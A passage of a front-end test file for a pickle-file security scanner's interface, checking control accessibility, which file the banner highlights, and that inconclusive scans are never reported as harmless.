    await waitFor(() => expect(screen.getAllByRole('tab', { selected: true })).toHaveLength(1));
    for (const role of [
      'button',
      'textbox',
      'searchbox',
      'combobox',
      'slider',
      'separator',
      'grid',
      'treegrid',
      'listbox',
      'option',
      'radio',
    ])
      for (const control of screen.queryAllByRole(role)) {
        const name = control.getAttribute('aria-label') ?? control.textContent;
        expect(name, `${tab}: ${control.outerHTML.slice(0, 120)}`).toBeTruthy();
      }
  }
});

describe('what is looked at', () => {
  test('is the worst file once all is scanned, unless somebody has chosen', async () => {
    const { bridge } = await renderApp();
    const [quiet = '', worst = ''] = bridge.add([quietSample('a.pkl'), dangerousSample('b.pkl')], false);
    await waitFor(() => expect(within(banner()).getByText('a.pkl')).toBeTruthy());
    bridge.report(quiet);
    bridge.report(worst);
    await waitFor(() => expect(within(banner()).getByText('b.pkl')).toBeTruthy());
    fireEvent.pointerDown(screen.getByRole('listbox', { name: 'Files' }));
    const [later = ''] = bridge.add([dangerousSample('0.pkl')], false);
    bridge.report(later);
    await screen.findByRole('option', { name: /0\.pkl, Dangerous/ });
    expect(within(banner()).getByText('b.pkl')).toBeTruthy();
  });

  test('is never said to do nothing while part of it is not understood', async () => {
    const { bridge } = await renderApp();
    bridge.add([inconclusiveSample()]);
    expect(await screen.findByText(/What was not understood may do anything/)).toBeTruthy();
    expect(screen.queryByText(/Loading it would import nothing/)).toBeNull();
  });
});
